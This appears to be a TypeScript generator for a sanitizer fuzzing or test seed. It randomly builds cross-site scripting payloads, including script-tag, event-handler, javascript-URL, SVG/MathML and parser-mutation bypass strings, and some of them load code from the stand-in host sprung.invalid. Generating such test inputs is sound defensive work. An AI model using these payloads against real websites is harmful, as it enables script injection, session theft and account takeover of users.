import { pick } from '../../../cli/seed/random.ts'
import {
  type Family,
  HANDLERS,
  SCHEMES,
  TAGS,
  scriptCall,
  blank,
  asEntities,
  mixed,
  quoted,
} from './payload-parts.ts'

export const scriptTag: Family = (chance) => {
  const open = mixed(
    chance,
    pick(chance, ['<script', '<svg><script', '<scr<script>ipt', '<math><script', '<script/x']),
  )
  return chance() < 0.3
    ? `${open}${blank(chance)}src=//sprung.invalid></script>`
    : `${open}>${scriptCall(chance)}${pick(chance, ['</script>', '//', '<!--', ''])}`
}
export const eventHandler: Family = (chance) => {
  const tag = pick(chance, TAGS)
  const code = scriptCall(chance)
  const value = quoted(chance, chance() < 0.3 ? asEntities(code) : code)
  return `<${mixed(chance, tag)}${blank(chance)}${HANDLERS[tag]}=${value}${pick(chance, ['>', '/>', ' x=">', '//', ''])}`
}
export const scriptUrl: Family = (chance) => {
  const url = `${pick(chance, SCHEMES)}${scriptCall(chance)}`
  return pick(chance, [
    `<a href="${url}">x</a>`,
    `<iframe src="${url}">`,
    `<form action="${url}"><button autofocus>x`,
    `<object data="${url}">`,
    `<embed src="${url}">`,
    `<meta http-equiv=refresh content="0;${url}">`,
    `<base href=//sprung.invalid>`,
    `<area href="${url}">`,
    `<button formaction="${url}" form=x>`,
    url,
    `[x](${url})`,
    `![x](//sprung.invalid/x.png)`,
    `<${url}>`,
    `[x]: ${url}`,
  ])
}
export const svgMarkup: Family = (chance) =>
  pick(chance, [
    `<svg><animate onbegin=${scriptCall(chance)} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${scriptCall(chance)}"><text y=9>x`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${scriptCall(chance)}>#x">`,
    `<svg><set attributeName=href to=javascript:${scriptCall(chance)}>`,
    `<math><maction actiontype=statusline xlink:href="javascript:${scriptCall(chance)}">x`,
    `<svg><foreignObject><img src=x onerror=${scriptCall(chance)}>`,
    `<svg><image href=//sprung.invalid/x.svg>`,
    `<svg><discard onbegin=${scriptCall(chance)}>`,
  ])
export const parserMutation: Family = (chance) => {
  const inner = `<img src=x onerror=${scriptCall(chance)}>`
  return pick(chance, [
    `<noscript><p title="</noscript>${inner}">`,
    `<svg></p><style><a id="</style>${inner}">`,
    `<math><mtext><table><mglyph><style><!--</style>${inner}`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<template>${inner}</template>`,
    `<select><style></select>${inner}</style>`,
    `<table><td>${inner}<caption>`,
    `<!--<img src="--!>${inner}">`,
    `<xmp><p title="</xmp>${inner}">`,
    `<title><a id="</title>${inner}">`,
    `<plaintext>${inner}`,
  ])
}
